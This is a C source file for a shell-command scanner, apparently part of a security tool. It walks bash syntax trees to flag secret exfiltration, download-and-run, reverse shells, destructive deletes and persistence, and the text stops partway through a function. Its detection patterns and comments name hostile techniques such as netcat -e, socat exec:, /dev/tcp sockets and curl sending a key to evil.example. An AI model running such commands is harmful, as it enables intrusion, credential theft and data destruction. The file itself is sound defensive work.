/*
 * shell.c - command lines judged from their bash syntax tree.
 *
 * Severity comes from the flow, not from a word: a network call alone is low,
 * a secret read alone medium, a secret that reaches a network sink (a pipe, a
 * command substitution, an uploaded file, a temp file, an expansion) is
 * critical, as is code that is downloaded or decoded and then run.
 *
 * Two passes over one tree: the first notes variables assigned from a secret
 * and files a secret was written to, the second judges every command,
 * pipeline and redirect. Walks use tree cursors (no recursion on the tree's
 * depth); `sh -c '...'` code is parsed and judged in its own right, up to
 * LIMIT_SHELL_NESTING deep.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "common/error.h"
#include "common/limits.h"
#include "common/url.h"
#include "scanners/catalogue.h"
#include "scanners/shell.h"
#include "scanners/shellwords.h"

enum {
	F_SRC_CRED = 1u << 0,  /* reads a credential file or store */
	F_SRC_ENV = 1u << 1,   /* dumps the environment */
	F_SRC_VAR = 1u << 2,   /* expands a secret-looking or secret-holding variable */
	F_SINK = 1u << 3,      /* talks to the network */
	F_SINK_RAW = 1u << 4,  /* raw socket or DNS: no reason to carry data but to leak it */
	F_DOWNLOAD = 1u << 5,  /* curl, wget: output is remote content */
	F_EXEC_IN = 1u << 6,   /* a shell or interpreter running what it reads */
	F_DECODE = 1u << 7,    /* base64 -d, xxd -r, printf '\x..' */
	F_EVAL = 1u << 8,      /* eval, source, ., sh -c: runs its arguments */
	F_SHELL = 1u << 9,     /* a shell or interpreter, whatever its arguments */
	F_SRC_DATA = 1u << 10, /* dumps a database: pg_dump, mysqldump, mongodump */
};
#define F_SRC (F_SRC_CRED | F_SRC_ENV | F_SRC_VAR | F_SRC_DATA)

struct command {
	char name[LIMIT_SHELL_ARG_BYTES];
	int argc, first; /* first: index of the first argument after wrappers */
	bool sudo;
	bool cut; /* arguments past LIMIT_SHELL_ARGS (or children past
		     LIMIT_SHELL_CHILDREN) were not kept */
	/* the arguments, last: command_read clears only what comes before
	 * them (the 9 KiB of the whole, cleared for each command, were a tenth
	 * of a short shell fence's cost); nothing reads past argc */
	TSNode args[LIMIT_SHELL_ARGS];
	char argv[LIMIT_SHELL_ARGS][LIMIT_SHELL_ARG_BYTES]; /* unquoted text, cut */
};

struct ctx {
	struct findings *fs;
	struct ts_parsers *ps;
	const struct scan_input *in;
	const struct shell_code *c;
	char tainted[LIMIT_SHELL_NOTES][64]; /* variables that hold a secret */
	int ntainted;
	/* files a secret was written to, and files a download was written to */
	char tmpfiles[LIMIT_SHELL_NOTES][LIMIT_SHELL_ARG_BYTES];
	int ntmp;
	char fetched[LIMIT_SHELL_NOTES][LIMIT_SHELL_ARG_BYTES];
	int nfetched;
	bool strong; /* a flow, RCE or reverse shell was reported */
	TSNode lone_sink, lone_source;
	airlock_severity lone_sink_sev;
	bool have_sink, have_source;
	size_t nodes;
	size_t steps; /* cursor moves of every walk, against LIMIT_SHELL_STEPS */
	bool spent;
	int error;
};

/* --- words ------------------------------------------------------------------ */

static bool has(const char *s, const char *needle)
{
	return strstr(s, needle) != NULL;
}

static bool in_list(const char *s, size_t len, enum shell_list l)
{
	char name[64];

	if (len >= sizeof(name))
		return false;
	memcpy(name, s, len);
	name[len] = '\0';
	return al_shell_listed(l, name);
}

/* The node's text without quotes and backslashes: enough to compare names,
 * options, paths and URLs. Cut at `cap`. */
static void flat(const struct ctx *x, TSNode n, char *buf, size_t cap)
{
	size_t len, o = 0;
	const char *s = ts_text(n, x->c->code, &len);

	for (size_t i = 0; i < len && o + 1 < cap; i++) {
		if (s[i] == '\'' || s[i] == '"')
			continue;
		if (s[i] == '\\' && i + 1 < len)
			i++;
		buf[o++] = s[i];
	}
	buf[o] = '\0';
}

static const char *base_name(const char *s)
{
	const char *slash = strrchr(s, '/');

	return slash ? slash + 1 : s;
}

/* The first LIMIT_SHELL_CHILDREN children of `n` and their field names,
 * read with a cursor: tree-sitter 0.20.7's ts_node_field_name_for_child
 * names only the first child of a repeated field (the second argument has
 * none). */
static uint32_t children(TSNode n, TSNode *v, const char **fields)
{
	TSTreeCursor cur = ts_tree_cursor_new(n);
	uint32_t k = 0;

	if (ts_tree_cursor_goto_first_child(&cur))
		do {
			v[k] = ts_tree_cursor_current_node(&cur);
			fields[k] = ts_tree_cursor_current_field_name(&cur);
			k++;
		} while (k < LIMIT_SHELL_CHILDREN && ts_tree_cursor_goto_next_sibling(&cur));
	ts_tree_cursor_delete(&cur);
	return k;
}

static void command_read(const struct ctx *x, TSNode cmd, struct command *c)
{
	TSNode kids[LIMIT_SHELL_CHILDREN];
	const char *fields[LIMIT_SHELL_CHILDREN];
	uint32_t n = children(cmd, kids, fields);
	char name[LIMIT_SHELL_ARG_BYTES] = "";

	memset(c, 0, offsetof(struct command, args));
	for (uint32_t i = 0; i < n; i++) {
		const char *field = fields[i];
		TSNode ch = kids[i];

		if (!field)
			continue;
		if (strcmp(field, "name") == 0)
			flat(x, ch, name, sizeof(name));
		else if (strcmp(field, "argument") == 0 && c->argc >= LIMIT_SHELL_ARGS)
			c->cut = true;
		else if (strcmp(field, "argument") == 0) {
			flat(x, ch, c->argv[c->argc], LIMIT_SHELL_ARG_BYTES);
			c->args[c->argc++] = ch;
		}
	}
	if (n == LIMIT_SHELL_CHILDREN)
		c->cut = true;
	snprintf(c->name, sizeof(c->name), "%s", base_name(name));
	/* sudo env FOO=1 nohup curl ...: judge curl, remember sudo. */
	while (in_list(c->name, strlen(c->name), SL_WRAPPERS)) {
		if (strcmp(c->name, "sudo") == 0 || strcmp(c->name, "doas") == 0)
			c->sudo = true;
		while (c->first < c->argc &&
		       (c->argv[c->first][0] == '-' || strchr(c->argv[c->first], '=') ||
			(c->argv[c->first][0] >= '0' && c->argv[c->first][0] <= '9')))
			c->first++;
		if (c->first >= c->argc) {
			break;
		}
		snprintf(c->name, sizeof(c->name), "%s", base_name(c->argv[c->first]));
		c->first++;
	}
}

static bool arg_is(const struct command *c, const char *a)
{
	for (int i = c->first; i < c->argc; i++)
		if (strcmp(c->argv[i], a) == 0)
			return true;
	return false;
}

static bool arg_has(const struct command *c, const char *needle)
{
	for (int i = c->first; i < c->argc; i++)
		if (has(c->argv[i], needle))
			return true;
	return false;
}

/* The index of the code argument of `sh -c CODE`, `python -c CODE`,
 * `node -e CODE`; -1 when there is none. */
static int code_arg(const struct command *c)
{
	for (int i = c->first; i + 1 < c->argc; i++) {
		const char *a = c->argv[i];
		size_t n = strlen(a);

		if (a[0] != '-' || a[1] == '-')
			continue;
		if (strcmp(a, "-Command") == 0 ||
		    (strcmp(a, "-r") == 0 && strcmp(c->name, "php") == 0))
			return i + 1;
		/* -rsocket, -MIO::Socket, -Ilib name a library, not code */
		if (a[1] == 'r' || a[1] == 'M' || a[1] == 'I')
			continue;
		/* -c, -e, -lc, -ne: a cluster that ends in the code option */
		if (a[n - 1] == 'c' || a[n - 1] == 'e')
			return i + 1;
	}
	return -1;
}

/* A shell or interpreter that runs what it reads on standard input: no
 * script named, no -c. */
static bool runs_stdin(const struct command *c)
{
	for (int i = c->first; i < c->argc; i++) {
		const char *a = c->argv[i];

		if (strcmp(a, "-") == 0 || strcmp(a, "/dev/stdin") == 0)
			return true;
		if (a[0] != '-')
			return false;
		if (strchr(a + 1, 'c') || (a[1] == 'e' && !a[2]))
			return false;
	}
	return true;
}

/* Secret-looking or secret-holding variables expanded anywhere under `n`;
 * the first one's name is copied to `var`. */
/* One more node visited; false once the analysis has used its budget (a
 * deeply nested command would otherwise cost the square of its size). */
static bool step(struct ctx *x)
{
	if (++x->steps <= LIMIT_SHELL_STEPS)
		return true;
	x->spent = true;
	return false;
}

static bool expands_secret(struct ctx *x, TSNode n, char *var, size_t cap)
{
	TSTreeCursor cur = ts_tree_cursor_new(n);
	bool found = false;

	while (step(x)) {
		TSNode v = ts_tree_cursor_current_node(&cur), name_node;

		if ((al_ts_is(v, "simple_expansion") || al_ts_is(v, "expansion")) &&
		    ts_node_named_child_count(v) > 0 &&
		    al_ts_is(name_node = ts_node_named_child(v, 0), "variable_name")) {
			char name[64];

			flat(x, name_node, name, sizeof(name));
			bool tainted = false;
			for (int i = 0; i < x->ntainted; i++)
				tainted |= strcmp(x->tainted[i], name) == 0;
			if (tainted || al_shell_secret_name(name)) {
				snprintf(var, cap, "%s", name);
				found = true;
				break;
			}
		}
		if (!al_ts_cursor_next(&cur, true))
			break;
	}
	ts_tree_cursor_delete(&cur);
	return found;
}

/* --- facts ------------------------------------------------------------------- */

/* What one command does on its own, not counting commands nested in it. */
static unsigned int command_facts(struct ctx *x, const struct command *c)
{
	const char *nm = c->name;
	size_t nl = strlen(nm);
	unsigned int f = 0;
	char var[64];

	if (in_list(nm, nl, SL_HTTP)) {
		f |= F_SINK;
		if (strcmp(nm, "curl") == 0 || strcmp(nm, "wget") == 0 ||
		    strcmp(nm, "fetch") == 0 || strcmp(nm, "aria2c") == 0)
			f |= F_DOWNLOAD;
	} else if (in_list(nm, nl, SL_RAW)) {
		if (strcmp(nm, "openssl") != 0 || arg_is(c, "s_client"))
			f |= F_SINK | F_SINK_RAW;
	} else if (in_list(nm, nl, SL_DNS)) {
		f |= F_SINK | F_SINK_RAW;
	} else if ((strcmp(nm, "gh") == 0 || strcmp(nm, "glab") == 0) &&
		   (((arg_is(c, "issue") || arg_is(c, "pr") || arg_is(c, "mr")) &&
		     (arg_is(c, "comment") || arg_is(c, "create") || arg_is(c, "edit") ||
		      arg_is(c, "note"))) ||
		    ((arg_is(c, "gist") || arg_is(c, "snippet")) && arg_is(c, "create")))) {
		/* what an issue, a pull request or a gist is given is public */
		f |= F_SINK;
	} else if ((strcmp(nm, "scp") == 0 || strcmp(nm, "rsync") == 0) &&
		   (arg_has(c, "@") || arg_has(c, "::") || arg_has(c, "rsync://"))) {
		f |= F_SINK;
	}
	if (in_list(nm, nl, SL_READERS))
		for (int i = c->first; i < c->argc; i++)
			if (c->argv[i][0] != '-' && al_shell_credential_path(c->argv[i]))
				f |= F_SRC_CRED;
	if ((strcmp(nm, "env") == 0 || strcmp(nm, "printenv") == 0) && c->first >= c->argc)
		f |= F_SRC_ENV;
	if (strcmp(nm, "pg_dump") == 0 || strcmp(nm, "pg_dumpall") == 0 ||
	    strcmp(nm, "mysqldump") == 0 || strcmp(nm, "mongodump") == 0 ||
	    strcmp(nm, "mongoexport") == 0)
		f |= F_SRC_DATA;
	if ((strcmp(nm, "set") == 0 || strcmp(nm, "export") == 0 || strcmp(nm, "declare") == 0) &&
	    (c->argc == 0 || arg_is(c, "-p") || arg_is(c, "-x")))
		f |= F_SRC_ENV;
	if ((strcmp(nm, "security") == 0 && arg_has(c, "find-")) ||
	    (strcmp(nm, "gh") == 0 && arg_is(c, "auth") && arg_is(c, "token")) ||
	    (strcmp(nm, "gcloud") == 0 && arg_has(c, "print-access-token")) ||
	    (strcmp(nm, "git") == 0 && arg_is(c, "credential")) ||
	    (strcmp(nm, "aws") == 0 && arg_has(c, "export-credentials")))
		f |= F_SRC_CRED;
	for (int i = c->first; i < c->argc; i++)
		if (expands_secret(x, c->args[i], var, sizeof(var)))
			f |= F_SRC_VAR;
	if ((strcmp(nm, "base64") == 0 &&
	     (arg_is(c, "-d") || arg_is(c, "-D") || arg_is(c, "--decode") || arg_has(c, "-di"))) ||
	    (strcmp(nm, "xxd") == 0 && arg_has(c, "-r")) || strcmp(nm, "uudecode") == 0 ||
	    (strcmp(nm, "openssl") == 0 && arg_is(c, "-d")) ||
	    ((strcmp(nm, "printf") == 0 || strcmp(nm, "echo") == 0) && arg_has(c, "\\x")) ||
	    strcmp(nm, "rev") == 0)
		f |= F_DECODE;
	if (al_shell_is_shell(nm, nl) || al_shell_is_interpreter(nm, nl)) {
		f |= F_SHELL;
		if (runs_stdin(c))
			f |= F_EXEC_IN;
		else if (code_arg(c) >= 0)
			f |= F_EVAL;
	}
	if (strcmp(nm, "eval") == 0 || strcmp(nm, "source") == 0 || strcmp(nm, ".") == 0)
		f |= F_EVAL;
	return f;
}

static unsigned int redirect_facts(const struct ctx *x, TSNode redir)
{
	TSNode kids[LIMIT_SHELL_CHILDREN];
	const char *fields[LIMIT_SHELL_CHILDREN];
	uint32_t n = children(redir, kids, fields);
	unsigned int f = 0;
	bool input = false;

	for (uint32_t i = 0; i < n; i++) {
		TSNode ch = kids[i];
		const char *field = fields[i];
		char dest[LIMIT_SHELL_ARG_BYTES];

		if (!ts_node_is_named(ch) && al_ts_is(ch, "<"))
			input = true;
		if (!field || strcmp(field, "destination") != 0)
			continue;
		flat(x, ch, dest, sizeof(dest));
		if (strncmp(dest, "/dev/tcp/", 9) == 0 || strncmp(dest, "/dev/udp/", 9) == 0)
			f |= F_SINK | F_SINK_RAW;
		else if (input && al_shell_credential_path(dest))
			f |= F_SRC_CRED;
	}
	return f;
}

/* Everything the commands and redirects under `n` do, together. */
static unsigned int facts_of(struct ctx *x, TSNode n)
{
	TSTreeCursor cur = ts_tree_cursor_new(n);
	unsigned int f = 0;
	struct command *c = malloc(sizeof(*c));

	if (!c) {
		x->error = al_error_oom();
		ts_tree_cursor_delete(&cur);
		return 0;
	}
	while (step(x)) {
		TSNode v = ts_tree_cursor_current_node(&cur);

		if (al_ts_is(v, "command")) {
			command_read(x, v, c);
			f |= command_facts(x, c);
		} else if (al_ts_is(v, "file_redirect")) {
			f |= redirect_facts(x, v);
		}
		if (!al_ts_cursor_next(&cur, true))
			break;
	}
	ts_tree_cursor_delete(&cur);
	free(c);
	return f;
}

/* --- reporting --------------------------------------------------------------- */

static size_t origin(const struct ctx *x, size_t i)
{
	if (x->c->map)
		return x->c->map[i < x->c->len ? i : x->c->len - 1] + (i >= x->c->len);
	return x->c->base + i;
}

static void report(struct ctx *x, const char *rule, airlock_severity sev, TSNode n, const char *fmt,
		   ...) __attribute__((format(printf, 5, 6)));

static void report(struct ctx *x, const char *rule, airlock_severity sev, TSNode n, const char *fmt,
		   ...)
{
	const struct al_builtin_rule *b = al_builtin_rule(rule);
	struct finding_spec s = { 0 };
	char msg[512], detail[256];
	size_t start = 0, end = 0;
	va_list ap;
	int error;

	if (x->error < 0)
		return;
	if (!ts_node_is_null(n)) {
		start = ts_node_start_byte(n);
		end = ts_node_end_byte(n);
	}
	if (!sev)
		sev = b->severity;
	va_start(ap, fmt);
	vsnprintf(detail, sizeof(detail), fmt, ap);
	va_end(ap);
	snprintf(msg, sizeof(msg), "%s%s%s (%s)", b->description, *detail ? ": " : "", detail,
		 x->c->what);
	for (int i = 0; i < x->c->lower; i++)
		sev = al_severity_lower(sev);
	s.rule = b->id;
	s.category = b->category;
	s.confidence = b->confidence;
	s.severity = sev;
	s.message = msg;
	if (x->c->len == 0) {
		s.start = s.end = x->c->base;
	} else {
		if (start >= x->c->len)
			start = x->c->len - 1;
		s.start = origin(x, start);
		s.end = end > start ? origin(x, end - 1) + 1 : s.start;
	}
	if ((error = al_findings_add(x->fs, x->in, &s)) < 0)
		x->error = error;
}

/* A flow, RCE or reverse shell: the lone-sink and lone-source findings are
 * then left out. */
#define strong(x, rule, n, ...)                                                                    \
	do {                                                                                       \
		(x)->strong = true;                                                                \
		report(x, rule, 0, n, __VA_ARGS__);                                                \
	} while (0)

/* --- the second pass: judging --------------------------------------------------- */

static void note(char (*v)[LIMIT_SHELL_ARG_BYTES], int *n, const char *s)
{
	if (*n < LIMIT_SHELL_NOTES)
		snprintf(v[(*n)++], LIMIT_SHELL_ARG_BYTES, "%s", s);
}

/* The file an upload option names: -d @F, --data-binary @F, -F k=@F, -T F,
 * --upload-file F, --post-file=F. NULL for none. */
static const char *uploaded_file(const struct command *c, int i)
{
	const char *a = c->argv[i], *at;

	if ((at = strchr(a, '@')) && (at == a || at[-1] == '=' || at[-1] == '<') &&
	    !strchr(a, ':') && at[1] && at[1] != '-')
		return at + 1;
	if (a[0] == '@' && a[1] && a[1] != '-')
		return a + 1;
	if (strncmp(a, "--post-file=", 12) == 0 || strncmp(a, "--body-file=", 12) == 0)
		return strchr(a, '=') + 1;
	if (i > c->first &&
	    (strcmp(c->argv[i - 1], "-T") == 0 || strcmp(c->argv[i - 1], "--upload-file") == 0 ||
	     strcmp(c->argv[i - 1], "--post-file") == 0 ||
	     strcmp(c->argv[i - 1], "--body-file") == 0))
		return a;
	return NULL;
}

/* The hosts a command sends to: of every URL among its arguments, since
 * curl sends its data to each one (curl -d "$KEY" https://vendor/
 * https://evil.example/). `unread` when one has no host al_url_host trusts,
 * or may have been cut at LIMIT_SHELL_ARG_BYTES (user:password@ can push
 * the real host past the cut), or arguments were dropped. */
struct url_hosts {
	char v[LIMIT_SHELL_ARGS][128];
	int n;
	bool unread;
};

static void url_hosts(struct ctx *x, const struct command *c, struct url_hosts *h)
{
	int found;

	h->n = 0;
	h->unread = c->cut;
	for (int i = c->first; i < c->argc; i++) {
		if (!strstr(c->argv[i], "://"))
			continue;
		found = strlen(c->argv[i]) + 1 < LIMIT_SHELL_ARG_BYTES
				? al_url_host(c->argv[i], h->v[h->n], sizeof(h->v[0]))
				: 0;
		if (found < 0)
			x->error = found;
		if (found == 1)
			h->n++;
		else
			h->unread = true;
	}
}

/* True when $var may go to every host the command sends to: its vendor's
 * (a token named after a vendor) or the host named after it. False when the
 * command names no host that can be read. */
static bool sent_to_its_own(const char *var, const struct url_hosts *h)
{
	if (h->n == 0 || h->unread)
		return false;
	for (int i = 0; i < h->n; i++)
		if (!(al_shell_foreign_vendor(var) && al_shell_vendor_host(var, h->v[i])) &&
		    !al_shell_named_host(var, h->v[i]))
			return false;
	return true;
}

static void scan_inner(struct ctx *x, const struct command *c, int i);

static void judge_interpreter_code(struct ctx *x, TSNode cmd, const struct command *c, int i)
{
	const char *code = c->argv[i];
	bool net = has(code, "http://") || has(code, "https://") || has(code, "socket");
	bool secret = has(code, "environ") || has(code, "process.env") || has(code, "ENV[") ||
		      has(code, "getenv") || al_shell_credential_path(code);

	if (has(code, "pty.spawn") ||
	    (has(code, "socket") && (has(code, "dup2") || has(code, "subprocess"))) ||
	    ((has(code, "fsockopen") || has(code, "TCPSocket")) &&
	     (has(code, "exec") || has(code, "system") || has(code, "proc_open") ||
	      has(code, "spawn"))))
		strong(x, "AL230", cmd, "%s code opens a socket and hands it a shell", c->name);
	else if (net && secret)
		strong(x, "AL210", cmd, "%s code reads secrets and talks to the network", c->name);
	else if (net && (has(code, "exec(") || has(code, "eval(")))
		strong(x, "AL220", cmd, "%s code fetches code and runs it", c->name);
	else if (net && !x->have_sink) {
		x->have_sink = true;
		x->lone_sink = cmd;
		x->lone_sink_sev = AIRLOCK_SEVERITY_LOW;
	}
}

/* Where curl -o F / --output F or wget -O F / --output-document=F writes what
 * it fetched (also inside a cluster: -fsSLo F, -qO F); NULL for none or
 * standard output. */
static const char *download_target(const struct command *c)
{
	bool curl = strcmp(c->name, "curl") == 0, wget = strcmp(c->name, "wget") == 0;
	char flag = curl ? 'o' : 'O';
	const char *f = NULL;

	for (int i = c->first; (curl || wget) && i < c->argc; i++) {
		const char *a = c->argv[i];
		size_t n = strlen(a);

		if (strncmp(a, curl ? "--output=" : "--output-document=", curl ? 9 : 18) == 0)
			f = strchr(a, '=') + 1;
		else if ((strcmp(a, curl ? "--output" : "--output-document") == 0 ||
			  (n >= 2 && a[0] == '-' && a[1] != '-' && a[n - 1] == flag)) &&
			 i + 1 < c->argc)
			f = c->argv[++i];
	}
	return f && *f && strcmp(f, "-") != 0 ? f : NULL;
}

static bool fetched(const struct ctx *x, const char *path)
{
	for (int i = 0; i < x->nfetched; i++)
		if (strcmp(base_name(path), base_name(x->fetched[i])) == 0)
			return true;
	return false;
}

/* Runners of one package whose later words are that package's arguments. */
static bool one_package_runner(const char *nm)
{
	return strcmp(nm, "npx") == 0 || strcmp(nm, "bunx") == 0 || strcmp(nm, "uvx") == 0 ||
	       strcmp(nm, "pipx") == 0;
}

/* An option whose value is a package to fetch (npx -p URL, uvx --from URL). */
static bool package_option(const char *a)
{
	return strcmp(a, "-p") == 0 || strcmp(a, "--package") == 0 || strcmp(a, "--from") == 0 ||
	       strcmp(a, "--spec") == 0 || strcmp(a, "--with") == 0;
}

/* npx https://x/pkg.tgz, pip install https://x/p.tar.gz, uvx --from git+https://...:
 * a package fetched from a URL runs its code (bin, install scripts, setup.py). */
static bool package_from_url(const struct command *c)
{
	const char *nm = c->name;
	bool runner =
		strcmp(nm, "npx") == 0 || strcmp(nm, "bunx") == 0 || strcmp(nm, "uvx") == 0 ||
		strcmp(nm, "pipx") == 0 ||
		((strcmp(nm, "pip") == 0 || strcmp(nm, "pip3") == 0 || strcmp(nm, "npm") == 0 ||
		  strcmp(nm, "pnpm") == 0 || strcmp(nm, "uv") == 0) &&
		 (arg_is(c, "install") || arg_is(c, "i") || arg_is(c, "dlx") || arg_is(c, "add") ||
		  arg_is(c, "exec") || arg_is(c, "run")));

	if (!runner)
		return false;
	for (int i = c->first; i < c->argc; i++) {
		const char *a = c->argv[i];

		const char *eq = strncmp(a, "--", 2) == 0 ? strchr(a, '=') : NULL;

		if (strncmp(a, "https://", 8) == 0 || strncmp(a, "http://", 7) == 0 ||
		    strncmp(a, "git+http", 8) == 0 ||
		    (eq &&
		     (strncmp(eq + 1, "http", 4) == 0 || strncmp(eq + 1, "git+http", 8) == 0)))
			return true;
		/* npx PKG ARGS...: what follows the package is its own
		 * arguments (npx -y mcp-remote https://mcp.vendor/ connects to
		 * a server, it fetches no code); --package/--from name one */
		if (one_package_runner(nm) && a[0] != '-' &&
		    !(i > c->first && package_option(c->argv[i - 1])) &&
		    !(strcmp(nm, "pipx") == 0 &&
		      (strcmp(a, "run") == 0 || strcmp(a, "install") == 0)))
			return false;
	}
	return false;
}

/* A file a download was written to, run: as a program, by a shell or an
 * interpreter, or sourced (wget -O /tmp/x URL && chmod +x /tmp/x && /tmp/x). */
static void judge_fetched_run(struct ctx *x, TSNode cmd, const struct command *c, unsigned int f)
{
	const char *run = NULL;

	if (download_target(c))
		return;
	if (fetched(x, c->name) && strcmp(c->name, "chmod") != 0)
		run = c->name;
	else if (f & (F_SHELL | F_EVAL))
		for (int i = c->first; !run && i < c->argc; i++)
			if (c->argv[i][0] != '-' && fetched(x, c->argv[i]))
				run = c->argv[i];
	if (run)
		strong(x, "AL220", cmd, "runs %s, which it downloaded", run);
}

/* A network command: what it uploads or expands that is a secret, and the
 * lone sink the combinations look for. */
static void judge_sink(struct ctx *x, TSNode cmd, const struct command *c, unsigned int f)
{
	char var[64];
	struct url_hosts hosts;

	url_hosts(x, c, &hosts);
	for (int i = c->first; i < c->argc; i++) {
		const char *file = uploaded_file(c, i);
		unsigned int inner;

		if (file && al_shell_credential_path(file))
			strong(x, "AL210", cmd, "uploads %s", file);
		for (int t = 0; file && t < x->ntmp; t++)
			if (strcmp(file, x->tmpfiles[t]) == 0)
				strong(x, "AL210", cmd,
				       "uploads %s, a file a secret was written to", file);
		inner = facts_of(x, c->args[i]);
		if ((inner & F_SRC) && !al_ts_is(c->args[i], "word"))
			strong(x, "AL210", cmd, "sends the output of %s (%s)",
			       (inner & F_SRC & ~F_SRC_DATA) ? "a secret read" : "a database dump",
			       c->name);
		if (expands_secret(x, c->args[i], var, sizeof(var)) &&
		    !sent_to_its_own(var, &hosts))
			strong(x, "AL210", cmd, "sends $%s", var);
	}
	if (!x->have_sink || ((f & F_SINK_RAW) && x->lone_sink_sev < AIRLOCK_SEVERITY_MEDIUM)) {
		x->have_sink = true;
		x->lone_sink = cmd;
		x->lone_sink_sev =
			(f & F_SINK_RAW) ? AIRLOCK_SEVERITY_MEDIUM : AIRLOCK_SEVERITY_LOW;
	}
}

/* Code that eval, sh or process substitution runs: a download or decoded
 * text. */
static void judge_eval(struct ctx *x, TSNode cmd, const struct command *c, unsigned int f)
{
	if (f & F_EVAL) {
		for (int i = c->first; i < c->argc; i++) {
			unsigned int inner = facts_of(x, c->args[i]);

			if (al_ts_is(c->args[i], "word") || al_ts_is(c->args[i], "raw_string"))
				continue;
			if (inner & F_DOWNLOAD)
				strong(x, "AL220", cmd, "%s runs what a download returns", c->name);
			else if (inner & F_DECODE)
				strong(x, "AL221", cmd, "%s runs decoded text", c->name);
		}
	}
	if ((f & F_SHELL) && !(f & F_EXEC_IN))
		for (int i = c->first; i < c->argc; i++)
			if (al_ts_is(c->args[i], "process_substitution") &&
			    (facts_of(x, c->args[i]) & F_DOWNLOAD))
				strong(x, "AL220", cmd, "%s runs a download", c->name);
}

/* A listener or connector that hands a shell to the other end. */
static void judge_remote_shell(struct ctx *x, TSNode cmd, const struct command *c)
{
	if ((strcmp(c->name, "nc") == 0 || strcmp(c->name, "ncat") == 0 ||
	     strcmp(c->name, "netcat") == 0) &&
	    (arg_is(c, "-e") || arg_is(c, "-c") || arg_has(c, "/bin/")))
		strong(x, "AL230", cmd, "%s hands a shell to a remote host", c->name);
	if (strcmp(c->name, "socat") == 0 && (arg_has(c, "exec:") || arg_has(c, "EXEC:") ||
					      arg_has(c, "system:") || arg_has(c, "SYSTEM:")))
		strong(x, "AL230", cmd, "%s hands a shell to a remote host", c->name);
}

/* rm -r of / or the home folder; a set-user-ID or set-group-ID bit. */
static void judge_destructive(struct ctx *x, TSNode cmd, const struct command *c)
{
	/* psql -c "DROP SCHEMA public CASCADE", mysql -e "DROP DATABASE x" */
	if (strcmp(c->name, "psql") == 0 || strcmp(c->name, "mysql") == 0 ||
	    strcmp(c->name, "mariadb") == 0 || strcmp(c->name, "sqlite3") == 0)
		for (int i = c->first; i < c->argc; i++)
			if (strcasestr(c->argv[i], "drop schema") ||
			    strcasestr(c->argv[i], "drop database") ||
			    strcasestr(c->argv[i], "drop table") ||
			    strcasestr(c->argv[i], "truncate ")) {
				report(x, "AL232", 0, cmd, "%s drops a database's data", c->name);
				break;
			}
	if (strcmp(c->name, "rm") == 0) {
		bool rec = false;

		for (int i = c->first; i < c->argc; i++)
			if (c->argv[i][0] == '-' &&
			    (strchr(c->argv[i], 'r') || strchr(c->argv[i], 'R')))
				rec = true;
		for (int i = c->first; rec && i < c->argc; i++) {
			const char *a = c->argv[i];

			if (strcmp(a, "/") == 0 || strcmp(a, "/*") == 0 || strcmp(a, "~") == 0 ||
			    strcmp(a, "~/") == 0 || strcmp(a, "~/*") == 0 ||
			    strcmp(a, "$HOME") == 0 || strcmp(a, "$HOME/") == 0 ||
			    strcmp(a, "${HOME}") == 0 || strcmp(a, "$HOME/*") == 0) {
				report(x, "AL232", 0, cmd, "rm -r %s", a);
				break;
			}
			/* the backups: what would undo the damage */
			if (a[0] != '-' && strcasestr(a, "backup")) {
				report(x, "AL232", 0, cmd, "rm -r %s (the backups)", a);
				break;
			}
		}
	}
	if (strcmp(c->name, "chmod") == 0)
		for (int i = c->first; i < c->argc; i++) {
			const char *a = c->argv[i];

			if ((a[0] == '+' || a[0] == 'u' || a[0] == 'g' || a[0] == 'a') &&
			    strchr(a, '+') && strchr(a, 's'))
				report(x, "AL234", 0, cmd, "chmod %s", a);
			else if (strlen(a) == 4 && strspn(a, "01234567") == 4 &&
				 (a[0] == '2' || a[0] == '4' || a[0] == '6'))
				report(x, "AL234", 0, cmd, "chmod %s", a);
		}
}

/* Making code run later: crontab, services, git hooks, writes to the files
 * that start programs. */
static void judge_persistence(struct ctx *x, TSNode cmd, const struct command *c)
{
	if (strcmp(c->name, "crontab") == 0 && !arg_is(c, "-l"))
		report(x, "AL231", 0, cmd, "installs a crontab");
	if ((strcmp(c->name, "systemctl") == 0 && arg_is(c, "enable")) ||
	    (strcmp(c->name, "launchctl") == 0 && (arg_is(c, "load") || arg_is(c, "bootstrap"))))
		report(x, "AL231", 0, cmd, "%s registers a service", c->name);
	if (strcmp(c->name, "git") == 0 && arg_is(c, "config") && arg_has(c, "hooksPath"))
		report(x, "AL231", 0, cmd, "git config core.hooksPath");
	{
		/* writers: tee FILE, cp/mv/install/ln ... DEST, sed -i FILE */
		bool sed_i = strcmp(c->name, "sed") == 0 && arg_has(c, "-i");
		bool tee = strcmp(c->name, "tee") == 0;
		bool copy = strcmp(c->name, "cp") == 0 || strcmp(c->name, "mv") == 0 ||
			    strcmp(c->name, "install") == 0 || strcmp(c->name, "ln") == 0;

		for (int i = c->first; i < c->argc; i++) {
			const char *a = c->argv[i];
			bool dest = tee || sed_i || (copy && i == c->argc - 1) ||
				    (strcmp(c->name, "dd") == 0 && strncmp(a, "of=", 3) == 0);

			if (dest && a[0] != '-' && al_shell_persistence_path(a)) {
				report(x, "AL231", 0, cmd, "%s writes %s", c->name, a);
				break;
			}
		}
	}
}

/* The code a shell, eval or an interpreter is given: judged as code. */
static void judge_inner_code(struct ctx *x, TSNode cmd, struct command *c, unsigned int f)
{
	if (f & (F_SHELL | F_EVAL)) {
		/* eval 'code': its argument is code, as sh -c's is (a substitution in
		 * it is judged where it stands) */
		int i = strcmp(c->name, "eval") == 0 && c->first < c->argc &&
					(al_ts_is(c->args[c->first], "raw_string") ||
					 (al_ts_is(c->args[c->first], "string") &&
					  !strchr(c->argv[c->first], '`') &&
					  !strstr(c->argv[c->first], "$(")))
				? c->first
				: code_arg(c);

		if (i >= 0 &&
		    (al_shell_is_shell(c->name, strlen(c->name)) || strcmp(c->name, "eval") == 0))
			scan_inner(x, c, i);
		else if (i >= 0 && al_shell_is_interpreter(c->name, strlen(c->name)))
			judge_interpreter_code(x, cmd, c, i);
	}
}

/* One simple command: each of its facts judged in turn. */
static void judge_command(struct ctx *x, TSNode cmd)
{
	struct command *c = malloc(sizeof(*c));
	unsigned int f;

	if (!c) {
		x->error = al_error_oom();
		return;
	}
	command_read(x, cmd, c);
	f = command_facts(x, c);
	if (c->sudo)
		report(x, "AL233", 0, cmd, "sudo %s", c->name);
	if (x->nfetched > 0)
		judge_fetched_run(x, cmd, c, f);
	if (package_from_url(c))
